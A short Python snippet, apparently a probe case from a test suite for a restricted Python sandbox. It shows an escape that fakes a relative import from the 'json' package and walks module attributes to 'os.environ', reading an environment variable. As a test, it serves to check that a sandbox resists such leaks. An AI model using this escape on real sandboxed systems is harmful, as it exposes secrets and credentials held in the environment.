# effect: leak
# note: a relative import out of an allowed package
def attempt(probe):
    scope = {"__package__": "json", "__name__": "json.x"}
    exec("from .decoder import scanner", scope)
    return scope["scanner"].re.enum.sys.modules["os"].environ[probe["env"]]
